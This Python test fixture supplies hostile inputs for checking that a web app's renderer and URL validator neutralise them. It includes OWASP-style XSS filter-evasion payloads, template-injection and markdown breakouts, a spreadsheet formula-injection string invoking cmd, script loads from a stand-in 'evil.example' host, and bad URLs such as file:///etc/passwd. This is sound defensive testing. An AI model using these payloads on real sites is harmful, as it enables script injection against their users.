"""Hostile text for every field a contributor writes: a representative set after the
OWASP XSS filter-evasion cheat sheet, plus template injection and JSON breakouts.

Each payload that could run sets the sentinel `window.__pwned`, so a browser test
can tell that nothing ran. None of them contains a control character, tab,
direction override or zero-width character: the validator rejects those (see the
rejected corpus), and these must get through it to prove the renderer is safe.
"""

from __future__ import annotations

SENTINEL = "window.__pwned=1"

#: Markup and script that must come out as text.
PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    '"><script>window.__pwned=1</script>',
    "'><script>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "</SCRIPT ><script>window.__pwned=1</script>",
    "<!--<script>window.__pwned=1</script>-->",
    "<![CDATA[<script>window.__pwned=1</script>]]>",
    '<img src=x onerror="window.__pwned=1">',
    "<IMG SRC=x OnErRoR=window.__pwned=1>",
    "<img src=x onerror=&#119;&#105;&#110;&#100;&#111;&#119;.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    '<a href="javascript:window.__pwned=1">click</a>',
    '<a href="jav&#x09;ascript:window.__pwned=1">tab</a>',
    '<a href="jav&#x0A;ascript:window.__pwned=1">newline</a>',
    '<a href=" &#14;  javascript:window.__pwned=1">leading</a>',
    '<a href="JaVaScRiPt:window.__pwned=1">case</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1">entities</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "<iframe src=javascript:window.__pwned=1></iframe>",
    '<iframe srcdoc="<script>window.__pwned=1</script>"></iframe>',
    '<object data="data:text/html,<script>window.__pwned=1</script>"></object>',
    "<embed src=//evil.example/x.swf>",
    "<style>body{background:url(javascript:window.__pwned=1)}</style>",
    '<div style="width: expression(window.__pwned=1);">old IE</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    "<base href=//evil.example/>",
    '<form action=//evil.example/><input name=q autofocus onfocus="window.__pwned=1"></form>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    "{{7*7}} {{ config }} {% raw %}{{ self.__init__ }}{% endraw %} ${7*7} #{7*7}",
    "{% for x in range(9999999) %}{% endfor %}",
    "[click me](javascript:window.__pwned=1) [data](data:text/html,<script>window.__pwned=1</script>)",
    "<javascript:window.__pwned=1> <data:text/html,x>",
    '![img](x" onerror="window.__pwned=1)',
    "[x](https://example.org/\"onmouseover=\"window.__pwned=1)",
    "\u2028\u2029 line separators <script>window.__pwned=1</script>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; &amp;lt; &#60;script&#62;",
    "Ünïcödé Cymraeg: Caerdydd ŵ ŷ — “quotes” ‘single’ ☕ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👍🏽",
    "\\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E",
    "=HYPERLINK(\"https://evil.example\",\"click\") +cmd|' /C calc'!A0 @SUM(1)",
)

#: Addresses that pass the validator (http/https, a real-looking host) but try to break out of the attribute.
URL_PAYLOADS: tuple[str, ...] = (
    'https://example.org/"onmouseover="window.__pwned=1',
    "https://example.org/'onmouseover='window.__pwned=1",
    "https://example.org/?q=<script>window.__pwned=1</script>",
    'https://example.org/"><script>window.__pwned=1</script>',
    "https://example.org/#javascript:window.__pwned=1",
)

#: Addresses the validator must refuse wherever a URL is allowed.
BAD_URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\u0000script:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://user:pass@evil.example/",
    "https://exa mple.org/",
    "http://",
    "ftp://example.org/",
    "file:///etc/passwd",
)

#: Invisible or direction-changing characters that make names lie about themselves.
DECEPTIVE = ("\u202e", "\u202d", "\u2066", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad")
